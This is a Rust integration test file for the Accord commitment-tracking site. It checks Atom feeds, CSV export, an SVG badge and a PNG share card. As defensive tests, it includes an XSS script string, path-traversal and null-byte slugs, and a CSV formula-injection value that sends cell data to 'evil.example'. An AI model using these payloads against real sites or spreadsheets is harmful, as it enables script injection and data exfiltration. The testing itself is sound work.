//! What other sites and tools take from Accord: Atom feeds (checked with
//! Python's feedparser), the CSV export, the status badge and the share card,
//! through the whole router over a real SQLite database with the shipped seed.

use crate::support;
use crate::support::{both_engines, checker_python, on_engine};

use std::path::PathBuf;
use std::process::Command;
use std::sync::atomic::{AtomicU32, Ordering};

use axum::body::Body;
use axum::http::{header, Request, StatusCode};
use axum::Router;
use domain::{Slug, Status, Theme};
use server::cards;

use support::{Answer, PUBLIC_URL};
const ATOM: &str = "application/atom+xml; charset=utf-8";
const HOSTILE_NOTE: &str = r#"<script>alert(1)</script> & "quotes""#;

async fn app(db: store::Db) -> Router {
    support::seeded_site_of(db).await
}

/// The seeded site and its share-card cache.
async fn app_and_cards(db: store::Db) -> (Router, cards::CardCache) {
    assert!(server::seed::seed_if_empty(&db).await.unwrap());
    let state = support::state_of(db, support::PUBLIC_URL, "target/site");
    let cards = state.cards.clone();
    (server::router(state), cards)
}

async fn get(app: &Router, path: &str) -> Answer {
    support::respond(app, Request::get(path).body(Body::empty()).unwrap()).await
}

fn shipped() -> domain::Dataset {
    support::shipped()
}

fn bilateral_slug() -> String {
    shipped()
        .commitments
        .iter()
        .find(|c| c.owed_by.len() == 2)
        .unwrap()
        .slug
        .to_string()
}

async fn id_of(db: &store::Db, sql: &'static str, key: &str) -> i64 {
    on_engine!(db, |pool| sqlx::query_scalar(sql)
        .bind(key)
        .fetch_one(pool)
        .await
        .unwrap())
}

/// Records a status change the way the database layer's own tests do, a
/// day after the newest one stored (whatever day the seed was loaded on),
/// and returns its id.
async fn append_status(db: &store::Db, slug: &str, party: &str, status: Status, note: &str) -> i64 {
    let commitment = id_of(db, "SELECT id FROM commitments WHERE slug = $1", slug).await;
    let party = id_of(db, "SELECT id FROM parties WHERE code = $1", party).await;
    let recorded_at = newest_change(db).await + chrono::Days::new(1);
    // Stored as text on both engines, as SQLite's driver writes a time.
    let recorded_at = recorded_at.to_rfc3339_opts(chrono::SecondsFormat::AutoSi, false);
    on_engine!(db, |pool| sqlx::query_scalar(
        "INSERT INTO status_updates (commitment_id, party_id, status, effective_on, note, recorded_by, recorded_at)
         VALUES ($1, $2, $3, '2026-02-01', $4, 'reuse tester', $5) RETURNING id",
    )
    .bind(commitment)
    .bind(party)
    .bind(status.code())
    .bind(note)
    .bind(&recorded_at)
    .fetch_one(pool)
    .await
    .unwrap())
}

/// When the newest status change was recorded.
async fn newest_change(db: &store::Db) -> chrono::DateTime<chrono::Utc> {
    let newest: String = on_engine!(db, |pool| sqlx::query_scalar(
        "SELECT MAX(recorded_at) FROM status_updates"
    )
    .fetch_one(pool)
    .await
    .unwrap());
    newest.parse().unwrap()
}

// ---------------------------------------------------------------- feeds

/// Runs `support/check_feed.py` on a served feed: it must parse cleanly as
/// Atom 1.0 with `count` entries, the first ones matching `entries`.
/// Returns what feedparser read.
fn feedparser_reads(feed: &Answer, count: usize, entries: serde_json::Value) -> serde_json::Value {
    static FILES: AtomicU32 = AtomicU32::new(0);
    let n = FILES.fetch_add(1, Ordering::Relaxed);
    let dir = std::env::temp_dir();
    let feed_file = dir.join(format!("accord-reuse-{}-{n}.atom", std::process::id()));
    let expected_file = dir.join(format!("accord-reuse-{}-{n}.json", std::process::id()));
    std::fs::write(&feed_file, &feed.body).unwrap();
    let expected = serde_json::json!({ "count": count, "entries": entries });
    std::fs::write(&expected_file, expected.to_string()).unwrap();
    let python = checker_python();
    let script = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/site/support/check_feed.py");
    let output = Command::new(&python)
        .arg(&script)
        .arg(&feed_file)
        .arg(feed.header(header::CONTENT_TYPE))
        .arg(&expected_file)
        .output();
    let _ = std::fs::remove_file(&feed_file);
    let _ = std::fs::remove_file(&expected_file);
    let output = output.unwrap_or_else(|error| {
        panic!(
            "cannot run the feed checker with {} ({error}); run `make tool-python`",
            python.display()
        )
    });
    assert!(
        output.status.success(),
        "feedparser check failed: {}\n--- feed ---\n{}",
        String::from_utf8_lossy(&output.stderr),
        feed.text()
    );
    serde_json::from_slice(&output.stdout).expect("the checker prints JSON")
}

fn link(parsed: &serde_json::Value, rel: &str) -> String {
    parsed["links"]
        .as_array()
        .unwrap()
        .iter()
        .find(|l| l["rel"] == rel)
        .and_then(|l| l["href"].as_str())
        .unwrap_or_else(|| panic!("no {rel} link in {parsed}"))
        .to_owned()
}

/// What each entry must carry, from the changes the database lists.
fn expected_entries(changes: &[domain::StatusChangeEntry]) -> serde_json::Value {
    changes
        .iter()
        .map(|change| {
            serde_json::json!({
                "title": format!("{} — {}", change.commitment_title, change.headline()),
                "link": format!("{PUBLIC_URL}commitments/{}#{}", change.commitment_slug, change.anchor()),
                "author": change.recorded_by,
            })
        })
        .collect()
}

both_engines!(site_feed_is_clean_atom_listing_every_change_newest_first);
async fn site_feed_is_clean_atom_listing_every_change_newest_first(db: store::Db) {
    let app = app(db.clone()).await;
    let feed = get(&app, "/feed.atom").await;
    assert_eq!(feed.status, StatusCode::OK, "{}", feed.text());
    assert_eq!(feed.header(header::CONTENT_TYPE), ATOM);

    let seeded_changes: usize = shipped().commitments.iter().map(|c| c.status.len()).sum();
    let changes = store::commitments::list_recent_status_changes(&db, None, 100)
        .await
        .unwrap();
    assert_eq!(changes.len(), seeded_changes);
    let parsed = feedparser_reads(&feed, seeded_changes, expected_entries(&changes));

    assert_eq!(parsed["version"], "atom10");
    assert_eq!(link(&parsed, "self"), format!("{PUBLIC_URL}feed.atom"));
    assert_eq!(link(&parsed, "alternate"), PUBLIC_URL);
    let entries = parsed["entries"].as_array().unwrap();
    let mut ids: Vec<&str> = entries.iter().map(|e| e["id"].as_str().unwrap()).collect();
    assert!(
        ids.iter().all(|id| id.starts_with("tag:accord.example,2025-11-01:")),
        "{ids:?}"
    );
    ids.sort_unstable();
    ids.dedup();
    assert_eq!(ids.len(), seeded_changes, "entry ids are unique");
}

both_engines!(commitment_feed_lists_only_that_commitments_changes);
async fn commitment_feed_lists_only_that_commitments_changes(db: store::Db) {
    let app = app(db.clone()).await;
    let data = shipped();
    let commitment = data.commitments.iter().find(|c| c.owed_by.len() == 2).unwrap();
    let path = format!("/commitments/{}/feed.atom", commitment.slug);
    let feed = get(&app, &path).await;
    assert_eq!(feed.status, StatusCode::OK, "{}", feed.text());
    assert_eq!(feed.header(header::CONTENT_TYPE), ATOM);

    let changes = store::commitments::list_recent_status_changes(&db, Some(&commitment.slug), 100)
        .await
        .unwrap();
    assert_eq!(changes.len(), commitment.status.len());
    // Beside its status changes, the corrections that concern it (the
    // shipped data's, here): newer changes first.
    let corrections = data
        .corrections
        .iter()
        .filter(|c| c.commitment.as_ref() == Some(&commitment.slug))
        .count();
    let parsed = feedparser_reads(&feed, changes.len() + corrections, expected_entries(&changes));
    let page = format!("{PUBLIC_URL}commitments/{}", commitment.slug);
    assert_eq!(link(&parsed, "self"), format!("{page}/feed.atom"));
    assert_eq!(link(&parsed, "alternate"), page);
    assert_eq!(parsed["title"], format!("Accord: {}", commitment.title));
    let entries = parsed["entries"].as_array().unwrap();
    for entry in &entries[..changes.len()] {
        assert!(
            entry["link"].as_str().unwrap().starts_with(&format!("{page}#update-")),
            "{entry}"
        );
    }
    for entry in &entries[changes.len()..] {
        assert!(
            entry["link"]
                .as_str()
                .unwrap()
                .starts_with(&format!("{PUBLIC_URL}corrections#data-")),
            "{entry}"
        );
    }
}

both_engines!(a_new_change_tops_both_feeds_with_its_markup_escaped);
async fn a_new_change_tops_both_feeds_with_its_markup_escaped(db: store::Db) {
    let app = app(db.clone()).await;
    let slug = bilateral_slug();
    support::retitle_behind_the_sites_back(&db, &slug, "Talks <b>&</b> more").await;
    let id = append_status(&db, &slug, "kr", Status::Stalled, HOSTILE_NOTE).await;

    for path in ["/feed.atom".to_owned(), format!("/commitments/{slug}/feed.atom")] {
        let feed = get(&app, &path).await;
        assert_eq!(feed.status, StatusCode::OK, "{path}");
        let raw = feed.text();
        assert!(!raw.contains("<script>"), "{path}: unescaped markup in\n{raw}");
        assert!(!raw.contains("<b>"), "{path}: unescaped markup in\n{raw}");
        assert!(
            raw.contains("&lt;script&gt;alert(1)&lt;/script&gt; &amp;"),
            "{path}: {raw}"
        );

        let slug = Slug::parse(&slug).unwrap();
        let scope = path.starts_with("/commitments").then_some(&slug);
        let changes = store::commitments::list_recent_status_changes(&db, scope, 100)
            .await
            .unwrap();
        assert_eq!(changes[0].id, id, "{path}: the new change comes first");
        // A commitment's feed also carries the corrections that concern it.
        // Counted from the seed file's own list of corrections.
        let corrections = match scope {
            Some(slug) => shipped()
                .corrections
                .iter()
                .filter(|c| c.commitment.as_ref() == Some(slug))
                .count(),
            None => 0,
        };
        let parsed = feedparser_reads(&feed, changes.len() + corrections, expected_entries(&changes[..1]));
        let first = &parsed["entries"][0];
        assert_eq!(first["summary"], HOSTILE_NOTE, "{path}: the note reads as written");
        assert_eq!(first["link"], format!("{PUBLIC_URL}commitments/{slug}#update-{id}"));
        assert!(
            first["title"]
                .as_str()
                .unwrap()
                .starts_with("Talks <b>&</b> more — South Korea: "),
            "{path}: {first}"
        );
        assert!(first["title"].as_str().unwrap().ends_with("Stalled"), "{first}");
        let updated = chrono::DateTime::parse_from_rfc3339(parsed["updated"].as_str().unwrap()).unwrap();
        assert_eq!(
            updated,
            newest_change(&db).await,
            "{path}: the feed is as new as its newest change"
        );
    }
}

both_engines!(unknown_or_malformed_commitments_are_404s);
async fn unknown_or_malformed_commitments_are_404s(db: store::Db) {
    let app = app(db).await;
    for slug in [
        "no-such-commitment",
        "UPPER-CASE",
        "a%00b",
        "%E2%80%AE",
        "..%2F..%2FCargo.toml",
    ] {
        for file in ["feed.atom", "badge.svg", "card.png"] {
            let path = format!("/commitments/{slug}/{file}");
            let answer = get(&app, &path).await;
            assert_eq!(answer.status, StatusCode::NOT_FOUND, "{path}");
            assert_eq!(
                answer.header(header::CONTENT_TYPE),
                "text/plain; charset=utf-8",
                "{path}"
            );
            assert!(answer.text().contains("no commitment"), "{path}: {}", answer.text());
        }
    }
}

// ---------------------------------------------------------------- CSV

const CSV_HEADER: [&str; 15] = [
    "slug",
    "title",
    "summit",
    "summit_date",
    "theme",
    "overall_status",
    "status_cn",
    "status_kr",
    "due_on",
    "due_basis",
    "overdue",
    "last_changed_on",
    "source_count",
    "url",
    "title_language",
];

/// The header and the data rows of an export, read back with the `csv` crate.
fn read_csv(answer: &Answer) -> (Vec<String>, Vec<Vec<String>>) {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(&answer.body[..]);
    let header = reader.headers().unwrap().iter().map(str::to_owned).collect();
    let rows = reader
        .records()
        .map(|record| record.unwrap().iter().map(str::to_owned).collect())
        .collect();
    (header, rows)
}

fn column(rows: &[Vec<String>], name: &str) -> Vec<String> {
    let index = CSV_HEADER.iter().position(|h| *h == name).unwrap();
    rows.iter().map(|row| row[index].clone()).collect()
}

both_engines!(csv_export_round_trips_every_commitment);
async fn csv_export_round_trips_every_commitment(db: store::Db) {
    // The day after the shipped due dates: some rows are overdue, some not.
    let today = chrono::NaiveDate::from_ymd_opt(2027, 1, 1).unwrap();
    let app = support::seeded_site_on_of(db, today, server::Limits::default()).await;
    let answer = get(&app, "/export/commitments.csv").await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.text());
    assert_eq!(answer.header(header::CONTENT_TYPE), "text/csv; charset=utf-8");
    assert_eq!(
        answer.header(header::CONTENT_DISPOSITION),
        r#"attachment; filename="accord-commitments.csv""#
    );
    let text = answer.text();
    // UTF-8's byte-order mark first, so spreadsheet programs read Hangul
    // and Han as UTF-8 (docs/I18N.md), then the header row.
    assert!(
        text.starts_with("\u{feff}slug,title,"),
        "a byte-order mark, then a header row"
    );
    assert_eq!(
        text.matches("\r\n").count(),
        text.matches('\n').count(),
        "every line ends in CRLF"
    );

    let (header, rows) = read_csv(&answer);
    assert_eq!(header, CSV_HEADER);
    let data = shipped();
    assert_eq!(rows.len(), 13);
    assert_eq!(rows.len(), data.commitments.len());
    let slugs = column(&rows, "slug");
    for (commitment, row) in data.commitments.iter().zip(&rows) {
        let slug = commitment.slug.as_str();
        assert_eq!(row[0], slug, "summit order, as the list shows it");
        assert_eq!(row[1], commitment.title);
        assert_eq!(row[2], data.summit.slug.as_str());
        assert_eq!(row[3], "2025-11-01");
        assert_eq!(row[4], commitment.theme.code());
        // The statuses the seed file records, worked out here from the file.
        assert_eq!(
            row[5],
            support::seeded_overall(&data, slug).code(),
            "{slug}: overall status"
        );
        for (index, party) in [(6, "cn"), (7, "kr")] {
            let expected = support::seeded_status(&data, slug, party)
                .map(Status::code)
                .unwrap_or("");
            assert_eq!(
                row[index], expected,
                "{slug}: status_{party} (blank only when not owed)"
            );
        }
        assert_eq!(row[8], commitment.due_on.map(|d| d.to_string()).unwrap_or_default());
        // Overdue on the site's clock: due before its day and not fulfilled.
        let overdue = commitment.due_on.is_some_and(|due| due < today)
            && support::seeded_overall(&data, slug) != Status::Fulfilled;
        assert_eq!(row[10], overdue.to_string(), "{slug}: overdue");
        assert_eq!(row[12], commitment.sources.len().to_string(), "{slug}: source count");
        assert_eq!(row[13], format!("{PUBLIC_URL}commitments/{slug}"));
    }
    assert!(slugs.iter().any(|s| s == "apec-2026-ftaap-regional-integration"));
    let overdue = column(&rows, "overdue");
    assert!(
        overdue.iter().any(|o| o == "true") && overdue.iter().any(|o| o == "false"),
        "the day chosen tells overdue rows from the others: {overdue:?}"
    );
}

both_engines!(csv_export_takes_the_list_filters);
async fn csv_export_takes_the_list_filters(db: store::Db) {
    let app = app(db.clone()).await;
    let data = shipped();

    let answer = get(&app, "/export/commitments.csv?theme=security").await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.text());
    let (_, rows) = read_csv(&answer);
    let security: Vec<String> = data
        .commitments
        .iter()
        .filter(|c| c.theme == Theme::Security)
        .map(|c| c.slug.to_string())
        .collect();
    assert!(!security.is_empty());
    assert_eq!(column(&rows, "slug"), security);

    // Any combination selects and orders what the list page would.
    let query = "party=kr&sort=title&overdue=0&q=exchanges";
    let answer = get(&app, &format!("/export/commitments.csv?{query}")).await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.text());
    let (_, rows) = read_csv(&answer);
    // Worked out from the seed file, not by the listing code the export
    // uses: owed by South Korea, a word of its title, summary or quoted
    // sources starting with "exchanges", in title order.
    let mut expected: Vec<(String, String)> = data
        .commitments
        .iter()
        .filter(|c| c.owed_by.iter().any(|p| p.as_str() == "kr"))
        .filter(|c| {
            let quotes: Vec<&str> = data
                .sources
                .iter()
                .filter(|s| c.sources.contains(&s.key) || c.status.iter().any(|st| st.sources.contains(&s.key)))
                .map(|s| s.quote.as_str())
                .collect();
            let text = format!("{} {} {}", c.title, c.summary, quotes.join(" ")).to_lowercase();
            text.split(|ch: char| !ch.is_alphanumeric())
                .any(|word| word.starts_with("exchanges"))
        })
        .map(|c| (c.title.to_lowercase(), c.slug.to_string()))
        .collect();
    expected.sort();
    let expected: Vec<String> = expected.into_iter().map(|(_, slug)| slug).collect();
    assert!(!expected.is_empty(), "the search matches something");
    assert!(expected.len() < data.commitments.len(), "the search narrows the list");
    assert_eq!(column(&rows, "slug"), expected);
    assert!(
        column(&rows, "status_kr").iter().all(|s| !s.is_empty()),
        "all owed by kr"
    );

    for bad in ["status=not_a_status", "theme=weather", "party=UNKNOWN", "overdue=maybe"] {
        let answer = get(&app, &format!("/export/commitments.csv?{bad}")).await;
        assert_eq!(answer.status, StatusCode::BAD_REQUEST, "{bad}");
        assert_eq!(answer.header(header::CONTENT_TYPE), "text/plain; charset=utf-8");
        let field = bad.split('=').next().unwrap();
        assert!(
            answer.text().contains(&format!("{field}: ")),
            "{bad}: {}",
            answer.text()
        );
    }
}

both_engines!(csv_cells_that_look_like_formulas_are_neutralised);
async fn csv_cells_that_look_like_formulas_are_neutralised(db: store::Db) {
    let app = app(db.clone()).await;
    let slug = bilateral_slug();
    let formula = r#"=HYPERLINK("https://evil.example/?"&A1,"Click me")"#;
    support::retitle_behind_the_sites_back(&db, &slug, formula).await;
    let answer = get(&app, "/export/commitments.csv").await;
    assert_eq!(answer.status, StatusCode::OK);
    let (_, rows) = read_csv(&answer);
    let row = rows.iter().find(|row| row[0] == slug).unwrap();
    assert_eq!(row[1], format!("'{formula}"));
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a live formula: {cell}"
            );
        }
    }
}

// ---------------------------------------------------------------- badge

both_engines!(badge_shows_each_partys_status_escaped);
async fn badge_shows_each_partys_status_escaped(db: store::Db) {
    let app = app(db.clone()).await;
    let slug = bilateral_slug();
    append_status(&db, &slug, "cn", Status::InProgress, "n").await;
    let badge = get(&app, &format!("/commitments/{slug}/badge.svg")).await;
    assert_eq!(badge.status, StatusCode::OK, "{}", badge.text());
    assert_eq!(badge.header(header::CONTENT_TYPE), "image/svg+xml");
    assert_eq!(badge.header(header::CACHE_CONTROL), "public, max-age=300");
    let svg = badge.text();
    let record = store::commitments::find_commitment_by_slug(&db, &Slug::parse(&slug).unwrap())
        .await
        .unwrap()
        .unwrap();
    assert_eq!(record.commitment.party_statuses.len(), 2);
    for owed in &record.commitment.party_statuses {
        let text = format!("{}: {}", owed.party.short_name, owed.status.label());
        assert!(svg.contains(&format!(">{text}</text>")), "{text} in {svg}");
    }
    assert!(svg.contains(">China: In progress</text>"), "{svg}");
    assert!(svg.contains(r#"role="img""#) && svg.contains("aria-label=\"Accord: "));
    assert!(svg.contains("<title>Accord: "));

    support::retitle_behind_the_sites_back(&db, &slug, "Talks <b>&</b> more").await;
    let svg = get(&app, &format!("/commitments/{slug}/badge.svg")).await.text();
    assert!(!svg.contains("<b>"), "{svg}");
    assert!(svg.contains("Talks &lt;b&gt;&amp;&lt;/b&gt; more"), "{svg}");
    resvg::usvg::Tree::from_str(&svg, &resvg::usvg::Options::default()).expect("the badge is well-formed SVG");
}

// ---------------------------------------------------------------- card

/// Width, height and RGBA pixels of a PNG.
fn decode_png(bytes: &[u8]) -> (u32, u32, Vec<u8>) {
    let mut reader = png::Decoder::new(std::io::Cursor::new(bytes))
        .read_info()
        .expect("a PNG");
    let mut pixels = vec![0; reader.output_buffer_size().unwrap()];
    let frame = reader.next_frame(&mut pixels).unwrap();
    assert_eq!(frame.color_type, png::ColorType::Rgba);
    pixels.truncate(frame.buffer_size());
    (frame.width, frame.height, pixels)
}

both_engines!(share_card_is_a_1200_by_630_png_cached_until_the_commitment_changes);
async fn share_card_is_a_1200_by_630_png_cached_until_the_commitment_changes(db: store::Db) {
    let (app, cards) = app_and_cards(db.clone()).await;
    let slug = bilateral_slug();
    let path = format!("/commitments/{slug}/card.png");

    let before = cards.stats();
    let first = get(&app, &path).await;
    assert_eq!(first.status, StatusCode::OK, "{}", String::from_utf8_lossy(&first.body));
    assert_eq!(first.header(header::CONTENT_TYPE), "image/png");
    assert_eq!(first.header(header::CACHE_CONTROL), "public, max-age=300");
    let (width, height, pixels) = decode_png(&first.body);
    assert_eq!((width, height), (1200, 630));
    // The title is drawn in dark ink on the white area under the band.
    let dark = pixels
        .chunks_exact(4)
        .skip(200 * 1200)
        .take(200 * 1200)
        .filter(|p| p[0] < 80 && p[1] < 80 && p[2] < 80)
        .count();
    assert!(dark > 2_000, "title text drawn ({dark} dark pixels)");
    let after_first = cards.stats();
    assert_eq!(after_first.renders, before.renders + 1);

    let second = get(&app, &path).await;
    assert_eq!(second.status, StatusCode::OK);
    assert_eq!(second.body, first.body);
    let after_second = cards.stats();
    assert_eq!(after_second.renders, after_first.renders, "served from the cache");
    assert_eq!(after_second.hits, after_first.hits + 1);

    // An edit bumps the version: a fresh card, replacing the old one.
    on_engine!(db, |pool| sqlx::query(
        "UPDATE commitments SET title = 'A retitled commitment', version = version + 1 WHERE slug = $1"
    )
    .bind(&slug)
    .execute(pool)
    .await
    .unwrap()
    .rows_affected());
    let third = get(&app, &path).await;
    assert_eq!(third.status, StatusCode::OK);
    assert_ne!(third.body, first.body);
    let after_third = cards.stats();
    assert_eq!(after_third.renders, after_second.renders + 1);
    assert_eq!(after_third.entries, after_second.entries, "the old version was dropped");
    assert_eq!(decode_png(&third.body).0, 1200);

    // A status change stored without a version bump still shows.
    append_status(&db, &slug, "kr", Status::Fulfilled, "n").await;
    let fourth = get(&app, &path).await;
    assert_ne!(fourth.body, third.body);
    assert_eq!(cards.stats().renders, after_third.renders + 1);
}

both_engines!(badge_and_card_are_drawn_in_the_requests_language);
async fn badge_and_card_are_drawn_in_the_requests_language(db: store::Db) {
    let slug = bilateral_slug();
    let (english, cards) = app_and_cards(db.clone()).await;
    support::retitle_behind_the_sites_back(&db, &slug, "A card in two languages").await;
    let badge = get(&english, &format!("/commitments/{slug}/badge.svg")).await;
    assert_eq!(badge.status, StatusCode::OK);
    assert!(badge.text().contains(r#"xml:lang="en""#), "{}", badge.text());
    // The Korean badge lives beside the Korean page, in Korean words.
    let badge = get(&english, &format!("/ko/commitments/{slug}/badge.svg")).await;
    assert_eq!(badge.status, StatusCode::OK);
    let svg = badge.text();
    assert!(svg.contains(r#"xml:lang="ko""#), "{svg}");
    assert!(svg.contains("Helvetica,Noto Sans CJK KR,"), "{svg}");
    let korean_party = i18n::tr(domain::Locale::Ko, "party-cn");
    assert!(svg.contains(&korean_party) && !svg.contains("China"), "{svg}");
    resvg::usvg::Tree::from_str(&svg, &resvg::usvg::Options::default()).expect("well-formed SVG");

    // Each language has its own card (the Korean one links to /ko/…), and
    // each is kept: asking for one does not drop the other.
    let path = format!("/commitments/{slug}/card.png");
    let korean_path = format!("/ko{path}");
    let korean = english.clone();
    let english_card = get(&english, &path).await;
    let korean_card = get(&korean, &korean_path).await;
    assert_eq!(
        (english_card.status, korean_card.status),
        (StatusCode::OK, StatusCode::OK)
    );
    assert_eq!(korean_card.header(header::CONTENT_TYPE), "image/png");
    assert_ne!(english_card.body, korean_card.body);
    let renders = cards.stats().renders;
    assert_eq!(get(&english, &path).await.body, english_card.body);
    assert_eq!(get(&korean, &korean_path).await.body, korean_card.body);
    assert_eq!(cards.stats().renders, renders, "both served from the cache");
}
